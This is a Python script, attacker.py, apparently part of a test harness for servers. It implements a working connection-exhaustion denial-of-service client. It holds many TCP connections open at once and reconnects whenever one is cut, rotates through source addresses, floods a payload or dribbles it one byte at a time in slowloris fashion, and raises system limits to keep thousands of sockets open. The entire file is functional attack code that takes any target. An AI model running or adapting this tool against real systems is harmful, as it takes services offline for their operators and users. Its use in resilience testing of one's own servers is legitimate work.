"""Clients that mean no good, as one process: so many connections at once, each made anew when it is cut, until told to stop.

attacker.py PLAN, where PLAN is JSON: `target` and `sources` (addresses; each connection takes the next one), `count`
(connections at once), `payload` (hexadecimal; sent over and over unless `once`), `every` (seconds between two bytes of it;
none: as fast as it goes), `reads` (whether it takes what comes back), `leaves` (seconds after which it hangs up by itself).
Ends on SIGTERM, or after `seconds`, and prints what it did.
"""

import collections
import errno
import json
import os
import resource
import select
import signal
import socket
import struct
import sys
import time

# Errors of a server that has had enough, or of a loopback that has run out of ports.
EXPECTED = {errno.ECONNRESET, errno.EPIPE, errno.ECONNREFUSED, errno.ECONNABORTED, errno.EADDRNOTAVAIL, errno.EADDRINUSE,
            errno.ETIMEDOUT, errno.ENOTCONN}
# linux/in.h; Python has no name for it.
IP_BIND_ADDRESS_NO_PORT = 24


class Connection:
    def __init__(self, attack):
        self.attack = attack
        self.sent = 0
        self.since = self.due = time.monotonic()
        source = attack.next_source()
        family = socket.AF_INET6 if ":" in source else socket.AF_INET
        self.socket = socket.socket(family, socket.SOCK_STREAM | socket.SOCK_NONBLOCK)
        # The port is chosen with the target, so that many connections from one address find one; and none waits for TIME_WAIT.
        self.socket.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        self.socket.bind((source, 0))
        error = self.socket.connect_ex(attack.target)
        if error not in (0, errno.EINPROGRESS):
            self.socket.close()
            raise OSError(error, os.strerror(error))
        floods = attack.payload and not attack.every
        self.wanted = select.EPOLLRDHUP | (select.EPOLLIN if attack.reads else 0) | (select.EPOLLOUT if floods else 0)
        attack.epoll.register(self.socket, self.wanted)

    def ready(self, events):
        """False when it is over."""
        if events & (select.EPOLLRDHUP | select.EPOLLHUP | select.EPOLLERR):
            return False
        if events & select.EPOLLIN:
            self.attack.counts["bytes read"] += len(self.socket.recv(65536))
        if events & select.EPOLLOUT:
            payload = self.attack.payload
            self.sent += self.socket.send(payload[self.sent % len(payload):])
            if self.attack.once and self.sent >= len(payload):
                self.wanted &= ~select.EPOLLOUT
                self.attack.epoll.modify(self.socket, self.wanted)
        return True

    def dribble(self, now):
        if now >= self.due:
            self.due = now + self.attack.every
            at = self.sent % len(self.attack.payload)
            self.sent += self.socket.send(self.attack.payload[at:at + 1])
        return True

    def close(self):
        self.attack.epoll.unregister(self.socket)
        self.socket.close()


class Attack:
    def __init__(self, target, sources, count, payload="", once=False, every=None, reads=False, leaves=None, seconds=60):
        self.target = tuple(target)
        self.sources = collections.deque(sources)
        self.count = count
        self.payload = bytes.fromhex(payload)
        self.once, self.every, self.reads, self.leaves = once, every, reads, leaves
        self.deadline = time.monotonic() + seconds
        self.epoll = select.epoll()
        self.open = {}
        self.counts = collections.Counter()
        self.stopped = False

    def next_source(self):
        self.sources.rotate(-1)
        return self.sources[0]

    def refill(self):
        """As many as there may be, but not so many at once that nothing else is done."""
        for _ in range(min(self.count - len(self.open), 200)):
            try:
                connection = Connection(self)
            except OSError as error:
                self.expected(error)
                self.counts["refused by the kernel"] += 1
                return
            self.open[connection.socket.fileno()] = connection
            self.counts["connections"] += 1

    def run(self):
        while not self.stopped and time.monotonic() < self.deadline:
            self.refill()
            for number, events in self.epoll.poll(0.01):
                self.step(self.open[number], lambda connection: connection.ready(events))
            now = time.monotonic()
            for connection in list(self.open.values()) if self.every or self.leaves is not None else []:
                if self.leaves is not None and now - connection.since >= self.leaves:
                    self.end(connection, "left")
                elif self.every:
                    self.step(connection, lambda connection: connection.dribble(now))
        print(json.dumps(self.counts | {"open": len(self.open)}), flush=True)

    def step(self, connection, does):
        try:
            goes_on = does(connection)
        except BlockingIOError:
            return
        except OSError as error:
            self.expected(error)
            goes_on = False
        if not goes_on:
            self.end(connection, "cut")

    def end(self, connection, how):
        del self.open[connection.socket.fileno()]
        connection.close()
        self.counts[how] += 1

    @staticmethod
    def expected(error):
        if error.errno not in EXPECTED:
            raise error


def main():
    plan = json.loads(sys.argv[1])
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(most, 65536), most))
    # On other machines they would not take the processor of the besieged.
    os.nice(10)
    attack = Attack(**plan)
    signal.signal(signal.SIGTERM, lambda *_: setattr(attack, "stopped", True))
    print("ready", flush=True)
    attack.run()


if __name__ == "__main__":
    main()
